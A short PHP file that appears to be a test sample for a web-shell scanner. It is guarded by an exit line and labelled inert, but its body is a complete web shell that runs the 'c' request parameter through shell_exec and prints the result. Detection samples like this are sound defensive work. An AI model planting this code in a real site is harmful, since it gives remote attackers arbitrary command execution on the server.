<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php
$cmd = $_REQUEST['c'];
echo "<pre>";
echo shell_exec($cmd);
echo "</pre>";
